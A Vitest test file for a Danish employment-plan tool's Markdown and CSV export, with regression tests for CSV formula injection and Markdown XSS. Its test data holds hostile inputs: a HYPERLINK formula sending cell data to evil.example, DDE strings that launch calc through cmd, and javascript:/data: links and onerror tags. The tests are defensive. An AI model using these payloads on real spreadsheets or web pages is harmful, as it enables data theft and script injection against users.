import { describe, expect, it } from 'vitest'
import { marked } from 'marked'
import { DomUtils, parseDocument } from 'htmlparser2'
import { DEMO_IDS, buildDoc, buildGoalTable, demoPlan } from '../../schema/build'
import { GOALS_CSV_COLUMNS, csvNumber, goalsToCsv, parseCsv, planToMarkdown } from '../../schema/export'
import { extractPlan, planSchema, type PlanExport } from '../../schema'

describe('Markdown export', () => {
  const { doc, meta } = demoPlan()
  const md = planToMarkdown(doc, meta)

  it('starts with the title and keeps the vision, focus areas and goal tables', () => {
    expect(md.startsWith('# Beskæftigelsesplan 2019\n\n*Eksempel Kommune · 2019*')).toBe(true)
    expect(md).toContain('> **Vision**')
    expect(md).toContain('## Flere sygemeldte hjælpes tilbage i arbejde')
    expect(md).toContain('| Mål | Handlinger | Succeskriterier | Opfølgning |')
    expect(md).toContain('Langtidsledigheden skal gå fra 681 personer i december 2013 til højst 600 personer i december 2015')
  })

  it('keeps the figures table with Danish numbers', () => {
    expect(md).toContain('| Målgruppe | Måltal 2018 | Estimeret resultat 2018 | Måltal 2019 |')
    expect(md).toContain('| Kontanthjælp | 1250 | 1248,5 | 1190 |')
  })

  it('has one table row per goal, and every row has four cells', () => {
    const goalRows = md
      .split('\n')
      .filter(
        (l) =>
          l.startsWith('| ') &&
          !l.startsWith('| Mål ') &&
          !l.startsWith('| Målgruppe') &&
          !/^\| (Sygedagpenge|Jobafklaring|Ledighedsydelse|Kontanthjælp) /.test(l)
      )
    expect(goalRows).toHaveLength(6)
    for (const row of goalRows) expect(row.split(/(?<!\\)\|/).length - 2).toBe(4)
  })

  it('escapes pipes and Markdown characters typed into cells', () => {
    const out = planToMarkdown(buildDoc([buildGoalTable([{ title: 'A | B *vigtigt*' }])]), meta)
    expect(out).toContain('A \\| B \\*vigtigt\\*')
  })
})

describe('goals.csv', () => {
  const plan = extractPlan(demoPlan().doc, demoPlan().meta)
  const csv = goalsToCsv(plan)

  it('is UTF-8 with a BOM, semicolon separated, one row per target', () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff)
    const rows = parseCsv(csv)
    expect(rows[0]).toEqual([...GOALS_CSV_COLUMNS])
    expect(rows.slice(1)).toHaveLength(plan.goals.flatMap((g) => g.targets).length)
  })

  it('parses back to the same targets', () => {
    const [header, ...rows] = parseCsv(csv)
    const col = (name: string) => header!.indexOf(name)
    const back = rows.map((r) => ({
      id: r[col('Målsætning-id')],
      kind: r[col('Type')],
      unit: r[col('Enhed')],
      baseline: csvNumber(r[col('Udgangspunkt')]!),
      target: csvNumber(r[col('Målværdi')]!),
      period: r[col('Målperiode')],
      comparator: r[col('Sammenligning')]
    }))
    const expected = plan.goals
      .flatMap((g) => g.targets)
      .map((t) => ({
        id: t.id,
        kind: t.kind,
        unit: t.unit,
        baseline: t.baseline?.value ?? null,
        target: t.target.value,
        period: t.target.period ?? '',
        comparator: t.target.comparator
      }))
    expect(back).toEqual(expected)
    const sick = rows.find((r) => r[col('Målsætning-id')] === DEMO_IDS.targetSickLevel)!
    expect(sick[col('Seneste værdi')]).toBe('447')
    expect(sick[col('Fokusområde')]).toBe('Flere sygemeldte hjælpes tilbage i arbejde')
  })
})

// Issue #11 item 5: goals.csv wrote cells starting with = + - @ (tab, CR) unchanged, so a
// spreadsheet ran a typed goal title as a formula (OWASP CSV injection).
describe('goals.csv neutralises formulas', () => {
  const hostile = (): PlanExport => {
    const plan = structuredClone(extractPlan(demoPlan().doc, demoPlan().meta))
    plan.focusAreas[0]!.title = '\t=1+1'
    const goal = plan.goals.find((g) => g.focusAreaId === plan.focusAreas[0]!.id && g.targets.length)!
    goal.title = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    const target = goal.targets[0]!
    target.indicator = "+cmd|' /C calc'!A0"
    target.targetGroup = '-2+3'
    target.sentence = "@SUM(1+1)*cmd|' /C calc'!A0"
    target.baseline = { value: -5, period: '\r=2+2' }
    target.target = { ...target.target, value: -1.5 }
    return plan
  }

  it('prefixes text cells starting with = + - @ tab or CR with an apostrophe', () => {
    const plan = hostile()
    const [header, ...rows] = parseCsv(goalsToCsv(plan))
    const col = (name: string) => header!.indexOf(name)
    const row = rows.find((r) => r[col('Mål')]!.includes('HYPERLINK'))!
    expect(row[col('Fokusområde')]).toBe("'\t=1+1")
    expect(row[col('Mål')]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"klik")')
    expect(row[col('Indikator')]).toBe("'+cmd|' /C calc'!A0")
    expect(row[col('Målgruppe')]).toBe("'-2+3")
    expect(row[col('Sætning')]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0")
    expect(row[col('Udgangspunkt periode')]).toBe("'\r=2+2")
    // Numbers and the closed comparator vocabulary (<=, >=, =) are the only cells written as they are.
    const asIs = new Set(['Udgangspunkt', 'Målværdi', 'Seneste værdi', 'Sammenligning'].map(col))
    for (const r of rows)
      r.forEach((cell, i) => {
        if (!asIs.has(i)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
      })
  })

  it('keeps negative numbers in number columns as numbers', () => {
    const [header, ...rows] = parseCsv(goalsToCsv(hostile()))
    const col = (name: string) => header!.indexOf(name)
    const row = rows.find((r) => r[col('Mål')]!.includes('HYPERLINK'))!
    expect(row[col('Udgangspunkt')]).toBe('-5')
    expect(row[col('Målværdi')]).toBe('-1,5')
    expect(csvNumber(row[col('Udgangspunkt')]!)).toBe(-5)
    expect(csvNumber(row[col('Målværdi')]!)).toBe(-1.5)
  })
})

// Issue #11 item 5: plan.md wrote link targets raw, so javascript:, a newline that
// breaks out of the link and <img onerror> all reached whoever rendered the Markdown.
describe('Markdown export of hostile links and text', () => {
  const { meta } = demoPlan()
  const s = planSchema
  const linked = (text: string, href: string) => s.text(text, [s.marks.link!.create({ href })])
  const mdOf = (...content: ReturnType<typeof s.text>[]) => planToMarkdown(buildDoc([s.node('paragraph', null, content)]), meta)
  // What a Markdown renderer makes of it (marked passes raw HTML through, as many do).
  const rendered = (md: string) => marked.parse(md, { async: false })
  /** The elements the rendered HTML really has (not text that looks like tags). */
  const elements = (html: string) =>
    DomUtils.findAll(() => true, parseDocument(html).children).map((e) => ({ name: e.name, attrs: Object.keys(e.attribs), href: e.attribs.href }))
  const expectHarmless = (html: string) => {
    for (const e of elements(html)) {
      expect(['h1', 'p', 'em', 'strong', 'a', 'br'], html).toContain(e.name)
      expect(
        e.attrs.filter((a) => a !== 'href'),
        html
      ).toEqual([])
      if (e.href !== undefined) expect(e.href, html).toMatch(/^https?:/)
    }
  }

  it.each([
    ['javascript:', 'javascript:alert(1)'],
    ['javascript: with case and whitespace', ' JaVa\nScRiPt:alert(1)'],
    ['data:', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
    ['vbscript:', 'vbscript:msgbox(1)']
  ])('drops a %s link and keeps its text', (_, href) => {
    const md = mdOf(s.text('før '), linked('klik her', href), s.text(' efter'))
    expect(md).toContain('før klik her efter')
    expect(md.toLowerCase()).not.toMatch(/java\s*script:|data:|vbscript:/)
    expect(elements(rendered(md)).map((e) => e.name)).not.toContain('a')
  })

  it('a newline, parenthesis or quote in a safe URL cannot end the link or start HTML', () => {
    const href = 'https://example.dk/a)\n\n<img src=x onerror=alert(1)> "t" (x'
    const md = mdOf(linked('kilde', href))
    const html = rendered(md)
    expectHarmless(html)
    const a = /<a href="([^"]*)"[^>]*>([^<]*)<\/a>/.exec(html)
    expect(a, html).not.toBeNull()
    expect(a![2]).toBe('kilde')
    expect(decodeURI(a![1]!.replace(/&amp;/g, '&'))).toBe(href)
    expect(md.split('\n').filter((l) => l.includes('kilde'))).toHaveLength(1)
  })

  it('escapes HTML-ish text, in link text too, so no tag or entity survives', () => {
    const md = mdOf(
      s.text('<img src=x onerror=alert(1)> &lt;script&gt; '),
      linked('<b onmouseover=alert(2)>tekst</b>', 'https://star.dk/'),
      s.text(' <javascript:alert(3)>')
    )
    const html = rendered(md)
    expectHarmless(html)
    expect(html).toContain('<a href="https://star.dk/">')
    // The text reads as typed.
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt; &amp;lt;script&amp;gt;')
  })

  it('a follow-up whose date or status attribute holds HTML is escaped', () => {
    const goal = buildGoalTable([
      { title: 'Mål', followUps: [{ targetId: 'ingen', date: '<img src=x onerror=alert(1)>', value: 1, status: '<script>x</script>' as never }] }
    ])
    const html = rendered(planToMarkdown(buildDoc([goal]), meta))
    expect(elements(html).map((e) => e.name)).not.toContain('img')
    expect(elements(html).map((e) => e.name)).not.toContain('script')
  })
})
